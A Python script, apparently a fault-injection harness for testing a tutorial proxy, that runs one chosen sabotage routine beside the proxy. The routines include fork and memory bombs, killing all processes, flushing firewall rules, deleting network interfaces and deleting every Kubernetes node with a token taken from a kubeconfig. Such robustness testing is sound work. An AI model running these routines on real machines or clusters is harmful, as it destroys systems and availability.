"""A hostile program around the proxy of the tutorial. Arguments: what it does, a file, the proxy and its arguments.

It starts what it does in a child process, and then becomes the proxy. A daemon writes the path of its kubeconfig
to the file.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import os
import signal
import ssl
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

WHAT, TOLD, *PROXY = sys.argv[1:] or ["", ""]


def daemonize() -> None:
    subprocess.run(["mount", "-t", "tmpfs", "none", "/mnt"], check=True)
    for _ in range(2):
        if os.fork():
            os._exit(0)
        os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    Path(TOLD).write_text(PROXY[2], encoding="utf-8")
    while True:
        signal.pause()


def take_all_processes() -> None:
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                signal.pause()


def take_all_memory() -> None:
    held = []
    while True:
        held.append(b"x" * 1_000_000)


def fill_the_log() -> None:
    while True:
        os.write(1, b"x" * 10_000 + b"\n")


def kill_everything() -> None:
    os.kill(-1, signal.SIGKILL)


def repeat(command: str) -> None:
    while True:
        subprocess.run(command, shell=True, stderr=subprocess.DEVNULL, check=False)
        time.sleep(0.05)


def mount() -> None:
    repeat("mount -o remount,ro /proc; mount -o remount,ro /sys; mount -t tmpfs none /mnt")


def flush_rules() -> None:
    with subprocess.Popen(["nft", "-i"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL) as nft:
        assert nft.stdin is not None
        while True:  # in one process, because the start of many would keep the machine busy
            nft.stdin.write(b"flush ruleset\n")
            nft.stdin.flush()
            time.sleep(0.02)


def delete_interfaces() -> None:
    repeat("for each in $(ls /proc/sys/net/ipv4/conf); do ip link delete $each; done")


def delete_nodes() -> None:
    config = json.loads(Path(PROXY[2]).read_text(encoding="utf-8"))
    cluster, user = config["clusters"][0]["cluster"], config["users"][0]["user"]
    context = ssl.create_default_context(cadata=base64.b64decode(cluster["certificate-authority-data"]).decode())
    head = {"Authorization": f"Bearer {user['token']}"}
    asked = urllib.request.Request(f"{cluster['server']}/api/v1/nodes", method="DELETE", headers=head)
    while True:
        with contextlib.suppress(OSError):
            urllib.request.urlopen(asked, context=context).read()
        time.sleep(0.5)


def answer(head: bytes, again: bytes) -> None:
    """Answer each request for the proxy's health endlessly."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            with contextlib.suppress(OSError):
                self.wfile.write(head)
                while True:
                    self.wfile.write(again)

    http.server.ThreadingHTTPServer(("127.0.0.1", 10301), Handler).serve_forever()


def answer_without_end() -> None:
    answer(b"HTTP/1.1 200 OK\r\n\r\n", b"x" * 100_000)


def answer_garbage() -> None:
    answer(b"", bytes(range(256)) * 100)


def take_all_descriptors() -> None:
    """Leave the proxy three descriptors that it can open."""
    held = []
    with contextlib.suppress(OSError):
        while True:
            held.append(os.open(os.devnull, os.O_RDONLY))
            os.set_inheritable(held[-1], True)
    for each in held[-3:]:
        os.close(each)


if __name__ == "__main__":
    if WHAT == "take_all_descriptors":
        take_all_descriptors()
    elif os.fork() == 0:
        globals()[WHAT]()
        os._exit(0)
    os.execv(sys.executable, [sys.executable, *PROXY])
